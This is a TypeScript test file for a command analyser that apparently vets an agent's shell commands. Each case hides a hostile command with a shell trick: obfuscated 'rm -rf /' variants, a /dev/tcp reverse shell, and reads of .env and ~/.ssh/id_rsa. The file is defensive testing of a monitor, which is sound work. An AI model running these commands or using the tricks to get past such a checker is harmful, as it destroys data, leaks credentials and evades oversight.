// tricks.test.ts — ways to hide a command from a reader, each of them read
// A line of facts an atom (sketch.ts): wrappers before `>`, meaning, then paths by access, hosts, code that runs, class.

import { expect, test } from "vitest";
import { sampleAction } from "../../sample.ts";
import { deriveFacts } from "../derive.ts";
import { sketch } from "../sketch.ts";

const read = (command: string): string[] =>
  sketch(deriveFacts(sampleAction({ args: { command }, cwd: "/w", home: "/home/u" })));
const check = (command: string, facts: string | string[]): void =>
  expect(read(command)).toEqual(Array.isArray(facts) ? facts : [facts]);

test.each<[command: string, facts: string | string[]]>([
  ["IFS=,; X=rm,-rf,/; $X", "rm --force --recursive / | d:/+ blocked"],
  ["=rm -rf /", "rm --force --recursive / | d:/+ blocked"],
  ["- rm -rf /", "-> rm --force --recursive / | d:/+ blocked"],
  ["cat .e$()nv", "cat .env | r:/w/.env safe"],
  ["cat .e$(true)nv", ["true | safe", "cat .env | r:/w/.env safe"]],
  ["sudo -s <<< 'rm -rf /'", "sudo> sh> rm --force --recursive / | d:/+ blocked"],
  [
    "docker exec -i c sh <<< 'rm -rf /'",
    ["docker exec --interactive c sh | runs:container", "docker exec> sh> rm --force --recursive / | d:/+ blocked"],
  ],
  [
    "printf '%b' '\\x72\\x6d -rf /' | sh",
    ["printf %b \\x72\\x6d -rf / | safe", "sh> rm --force --recursive / | d:/+ blocked"],
  ],
  ["su -c 'ls' > /etc/x", [": | w:/etc/x blocked", "su> ls | r:/w blocked"]],
  ["watch ls > /etc/x", [": | w:/etc/x blocked", "watch> ls | r:/w safe"]],
  ["eval 'ls' > /etc/x", [": | w:/etc/x blocked", "eval> ls | r:/w safe"]],
  ["alias x='rm -rf /'", ["alias> rm --force --recursive / | d:/+ blocked", "alias x=rm -rf / | safe"]],
  ["cmd /c del x", ["cmd /c del x | opaque", "cmd> del x | w:/w/x+ d:/w/x+"]],
  ["git show HEAD:.env", "git show HEAD:.env | r:/w/.env safe"],
  ["git --exec-path=/tmp/x status", "git status --exec-path=/tmp/x | r:/tmp/x runs:script"],
  [
    "zip x.zip y -TT 'rm x'",
    ["zip --unzip-command=rm x x.zip y | w:/w/x.zip r:/w/y+ runs:option", "zip> rm x | d:/w/x"],
  ],
  ["screen -dmS x rm y", ["screen --dmS=x rm y | runs:shell", "screen> rm y | d:/w/y"]],
  ["wget -nv https://x.example/a", "wget --no-verbose https://x.example/a | w:/w/a h:x.example(public)"],
  [
    "docker run -v ~/.ssh:/x alpine cat /x/id_rsa",
    [
      "docker run --volume=~/.ssh:/x alpine cat /x/id_rsa | r:/home/u/.ssh+ w:/home/u/.ssh+ runs:container",
      "docker run> cat /x/id_rsa | r:/x/id_rsa safe",
    ],
  ],
  ["timeout 5 > /etc/x", "timeout 5 | w:/etc/x blocked"],
  ["and rm x", "and> rm x | d:/w/x"],
  ["npm install ./x.tgz", "npm install ./x.tgz | r:/w/x.tgz+ runs:package-script"],
  ["env -S'rm -rf /'", "env> rm --force --recursive / | d:/+ blocked"],
  [
    "find . -maxdepth 1 -type f -exec cat {} +",
    ["find --exec --maxdepth=1 --type=f . | r:/w+ safe", "find> cat ? | r:/w/*+ safe"],
  ],
  ['a=(rm -rf /); "\x24{a[@]}"', "? | opaque"],
  ['set -- rm -rf /; "$@"', ["set -- rm -rf / | safe", "rm --force --recursive / | d:/+ blocked"]],
  ["bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "bash | h:1.2.3.4:80(public,upload) runs:shell"],
  ["while read l; do echo $l; done < .env", ["read l | safe", "echo ? | safe", ": | r:/w/.env safe"]],
])("hidden, but not from here: %s", (command, facts) => check(command, facts));
